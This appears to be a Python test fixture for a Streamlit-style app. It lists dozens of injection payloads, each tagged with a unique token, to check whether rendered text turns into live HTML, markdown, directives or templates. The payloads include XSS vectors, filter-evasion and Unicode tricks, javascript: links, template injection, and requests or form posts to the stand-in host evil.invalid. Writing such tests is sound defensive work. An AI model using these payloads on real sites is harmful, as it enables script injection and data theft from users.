"""Texts that become something else where a page reads them as HTML, as markdown, as a directive or as a template.

Each holds a token of its own, `zq01x` and so on. Where a payload is shown as it is, no element holds its token alone;
where one is read as code, an element with that id, a link, a picture, or a piece of styled text appears.
"""

import re

__all__ = ["EVIL", "PAYLOADS", "TOKENS"]

EVIL = "evil.invalid"
"""Where payloads try to send a request."""

_TEMPLATES = (
    # script and HTML
    "<script id=T>window.hacked='T'</script>",
    "<script id=T src=//evil.invalid/T.js></script>",
    "<SCRIPT id=T>alert('T')</SCRIPT>",
    "<scr<script>ipt id=T>alert('T')</scr</script>ipt>",
    "<img id=T src=x onerror=alert('T')>",
    "<img id=T src=//evil.invalid/T.png>",
    "<svg id=T onload=alert('T')><circle r=9/></svg>",
    "<svg><script id=T>window.hacked='T'</script></svg>",
    "<svg><animate id=T onbegin=alert('T') attributeName=x dur=1s></svg>",
    "<math id=T><mtext><img src=x onerror=alert('T')></mtext></math>",
    "<iframe id=T src=javascript:alert('T')></iframe>",
    "<iframe id=T srcdoc=\"<script>parent.hacked='T'</script>\"></iframe>",
    "<object id=T data=//evil.invalid/T></object>",
    "<embed id=T src=//evil.invalid/T.swf>",
    "<details id=T open ontoggle=alert('T')><summary>T</summary></details>",
    "<input id=T autofocus onfocus=alert('T')>",
    "<button id=T onclick=alert('T')>T</button>",
    "<form id=T action=//evil.invalid/T><input name=T></form>",
    "<video id=T autoplay onloadstart=alert('T')><source src=//evil.invalid/T.mp4></video>",
    "<a id=T href=javascript:alert('T')>T</a>",
    "<base id=T href=//evil.invalid/>",
    "<meta id=T http-equiv=refresh content='0;url=//evil.invalid/T'>",
    "<link id=T rel=stylesheet href=//evil.invalid/T.css>",
    "<style id=T>*{background:url(//evil.invalid/T.png)}</style>",
    "<div id=T style='position:fixed;inset:0;background:url(//evil.invalid/T.png)'>T</div>",
    '"><b id=T>T</b>',
    "'><img id=T src=x onerror=alert('T')>",
    "</textarea></title></style><b id=T>T</b>",
    "<!--><img id=T src=x onerror=alert('T')>-->",
    "&lt;b id=T&gt;T&lt;/b&gt;",
    "&#60;img id=T src=x onerror=alert('T')&#62;",
    "\\u003cimg id=T src=x onerror=alert('T')\\u003e",
    "<x-T id=T onpointerrawupdate=alert('T')>T</x-T>",
    # unicode
    "\uff1cimg id=T src=x onerror=alert('T')\uff1e",
    "<img\u2028id=T\u2028src=x\u2028onerror=alert('T')>",
    "\u202e<b id=T>T</b>\u202c",
    "<\u200bimg id=T src=x onerror=alert('T')>",
    # markdown
    "[T](javascript:alert('T'))",
    "[T](//evil.invalid/T)",
    "![T](//evil.invalid/T.png)",
    "<https://evil.invalid/T>",
    "https://evil.invalid/T",
    "**T**",
    "_T_",
    "~~T~~",
    "`T`",
    "# T",
    "- T",
    "| T |",
    "[x][T] and more",
    # formulas, and Streamlit's own directives
    "$T$",
    "$$T$$",
    "$\\href{javascript:alert('T')}{T}$",
    ":red[T]",
    ":blue-background[T]",
    ":green-badge[T]",
    ":small[T]",
    ":material/T:",
    ":material/delete_forever: zq of T",
    # templates and format strings
    "{{constructor.constructor('alert(\"T\")')()}}",
    "{text.__class__} T",
    "${alert('T')} %(T)s {0} {T}",
    # plotly's pseudo-HTML and CSS
    "<b>T</b><br><a href='javascript:alert(1)'>T</a>",
    "url(//evil.invalid/T.png)",
    "red;background:url(//evil.invalid/T.png)",
    "expression(alert('T'))",
)

TOKENS = tuple(f"zq{number:02}x" for number in range(len(_TEMPLATES)))
PAYLOADS = tuple(
    re.sub(r"(?<![A-Za-z])T(?![A-Za-z])", token, text) for text, token in zip(_TEMPLATES, TOKENS, strict=True)
)
